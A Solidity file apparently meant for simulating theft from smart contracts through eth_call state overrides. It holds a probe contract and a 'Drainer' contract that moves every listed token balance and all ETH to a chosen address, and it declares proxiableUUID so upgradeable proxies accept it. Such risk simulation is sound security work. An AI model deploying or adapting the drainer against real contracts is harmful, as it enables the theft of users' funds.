// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

/// The code of an account for one eth_call, by a state override, never deployed: asks and acts in order as that account, and keeps one
/// word of each answer. What it calls is taken to be hostile: every call has a gas limit.
contract ThiefProbe {
    struct Ask {
        /// Zero: the coin of the address in `data` is asked for.
        address to;
        uint256 gas;
        bytes data;
    }

    struct Answer {
        /// 0 refused, 1 went through and said nothing, 2 said something
        uint256 state;
        uint256 word;
    }

    function run(Ask[] calldata asks) external returns (Answer[] memory answers) {
        answers = new Answer[](asks.length);
        for (uint256 i = 0; i < asks.length; i++) {
            if (asks[i].to == address(0)) {
                answers[i] = Answer(2, abi.decode(asks[i].data, (address)).balance);
            } else {
                (answers[i].state, answers[i].word) = send(asks[i].to, asks[i].gas, asks[i].data);
            }
        }
    }

    function send(address to, uint256 most, bytes memory data) private returns (uint256 state, uint256 word) {
        assembly ("memory-safe") {
            mstore(0, 0)
            let went := call(most, to, 0, add(data, 32), mload(data), 0, 32)
            state := mul(went, add(1, gt(returndatasize(), 31)))
            word := mload(0)
        }
    }

    /// Takes coin.
    receive() external payable {}
}

/// Code that a thief puts in place of a contract's own, in a simulation: hands on all that the contract holds.
contract Drainer {
    function drain(address[] calldata tokens, address payable to) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            (bool ok, bytes memory held) = tokens[i].staticcall(
                abi.encodeWithSignature("balanceOf(address)", address(this))
            );
            if (!ok || held.length < 32) continue;
            uint256 amount = abi.decode(held, (uint256));
            if (amount == 0) continue;
            (ok, ) = tokens[i].call(abi.encodeWithSignature("transfer(address,uint256)", to, amount));
        }
        if (address(this).balance > 0) {
            (bool sent, ) = to.call{value: address(this).balance}("");
            require(sent);
        }
    }

    /// Asked by proxies before they take code for their own.
    function proxiableUUID() external pure returns (bytes32) {
        return 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    }

    fallback() external payable {}
}
